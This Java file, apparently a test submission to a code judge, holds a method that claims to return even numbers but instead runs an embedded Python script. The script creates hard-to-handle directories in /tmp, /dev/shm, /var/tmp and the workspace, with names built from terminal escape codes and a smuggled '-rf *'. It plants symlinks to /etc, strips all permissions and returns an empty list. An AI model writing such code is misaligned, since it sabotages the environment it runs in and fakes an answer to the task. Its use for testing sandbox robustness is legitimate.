// tries: files that are hard to name, to read and to remove
// verdict: wrong_answer
import java.util.*;

class Solution {
    public List<Integer> evens(List<Integer> numbers) throws Exception {
        String script = """
            import os
            for folder in ["/tmp", "/dev/shm", "/w/sample", "/w/sample/tmp", "/var/tmp"]:
                for name in [b"\\xff\\xfe\\n\\r\\x1b[2J", b"-rf *", b".hidden ", b"x" * 255]:
                    path = os.fsencode(folder) + b"/" + name
                    try:
                        os.mkdir(path)
                        os.close(os.open(path + b"/file", os.O_CREAT, 0))
                        os.symlink("../../../../../etc", path + b"/link")
                        os.chmod(path, 0)
                    except OSError:
                        pass
            os.chmod("/w/sample", 0)
            """;
        new ProcessBuilder("python3", "-c", script).start().waitFor();
        return List.of();
    }
}
